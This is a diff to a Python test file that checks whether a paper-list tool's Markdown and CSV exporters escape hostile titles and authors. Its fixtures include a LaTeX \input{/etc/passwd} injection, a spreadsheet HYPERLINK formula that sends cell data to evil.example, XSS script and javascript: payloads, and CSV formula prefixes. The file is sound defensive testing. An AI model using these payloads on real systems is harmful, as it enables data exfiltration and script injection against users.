@@ -33,6 +33,9 @@ INJECT = r"\input{/etc/passwd} \end{document} @article{evil, title={x}} %comment
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HTML = ("<script>alert(1)</script> [click](javascript:alert(1)) <img src=x onerror=alert(1)> &amp; &#x3C; "
         "`code` ![x](https://evil.example/t.png) <!-- c -->")
+# As stored: titles lose inline HTML (the <img> tag, the comment) and have their character references
+# decoded (issue 10); <script> is no text-level HTML element and stays, for the exporters to escape.
+HTML_STORED = "<script>alert(1)</script> [click](javascript:alert(1)) & < `code` ![x](https://evil.example/t.png)"
 MD_STRUCTURE = "# Heading\n- [[Paper]](javascript:alert(1)) | cell |\n> quote"
 CODE_URL = "https://github.com/a/b)](javascript:alert(1)"
 CELLS = ["+SUM(A1:A9)", "-2+3 minus", "@cmd attack", "\t=tab formula", "'quoted start"]
@@ -43,7 +46,7 @@ HOSTILE = [
      ["--title", TEX, "--author", "Zoë O'Brien", "--author", "Ann Lee", "--venue", "MICCAI", "--year", "2023"]),
     ("ray2022inputetcpasswd", INJECT, ["--title", INJECT, "--author", "Bob Ray", "--venue", "MedIA", "--year", "2022"]),
     ("sum112021hyperlinkhttpevilexamplea1click", FORMULA, ["--title", FORMULA, "--author", "@SUM(1+1)", "--year", "2021"]),
-    ("bhackerb2020scriptalert1script", HTML,
+    ("bhackerb2020scriptalert1script", HTML_STORED,
      ["--title", HTML, "--author", "Eve <b>Hacker</b>", "--year", "2020", "--code", CODE_URL]),
     ("mustermann2019heading", "# Heading - [[Paper]](javascript:alert(1)) | cell | > quote",
      ["--title", MD_STRUCTURE, "--author", "Max Mustermann", "--year", "2019"]),
@@ -207,8 +210,8 @@ def test_markdown_export_escapes_payloads_line_by_line(hostile_db, tmp_path):
         r"- *(2022-MedIA)* **\\input{/etc/passwd} \\end{document} @article{evil, title={x}} %comment**",
         '- *(2021)* **=HYPERLINK("http://evil.example/?"&A1,"click")**',
         (
-            r"- *(2020)* **&lt;script&gt;alert(1)&lt;/script&gt; \[click\](javascript:alert(1)) &lt;img src=x "
-            r"onerror=alert(1)&gt; &amp;amp; &amp;#x3C; \`code\` !\[x\](https://evil.example/t.png) &lt;!-- c --&gt;** "
+            r"- *(2020)* **&lt;script&gt;alert(1)&lt;/script&gt; \[click\](javascript:alert(1)) & &lt; "
+            r"\`code\` !\[x\](https://evil.example/t.png)** "
             r"[[Code]](https://github.com/a/b\)]\(javascript:alert\(1\))"
         ),
         "  - Authors: Eve &lt;b&gt;Hacker&lt;/b&gt;",
@@ -246,7 +249,7 @@ def test_csv_export_neutralizes_formulas_cell_by_cell(hostile_db, tmp_path):
         "obrien2023braces": (TEX, "Zoë O'Brien; Ann Lee"),
         "ray2022inputetcpasswd": (INJECT, "Bob Ray"),
         "sum112021hyperlinkhttpevilexamplea1click": ("'" + FORMULA, "'@SUM(1+1)"),
-        "bhackerb2020scriptalert1script": (HTML, "Eve <b>Hacker</b>"),
+        "bhackerb2020scriptalert1script": (HTML_STORED, "Eve <b>Hacker</b>"),
         "mustermann2019heading": ("# Heading - [[Paper]](javascript:alert(1)) | cell | > quote", "Max Mustermann"),
         "formula2018suma1a9": ("'+SUM(A1:A9)", "Cy Formula"),
         "formula2018minus": ("'-2+3 minus", "Cy Formula"),
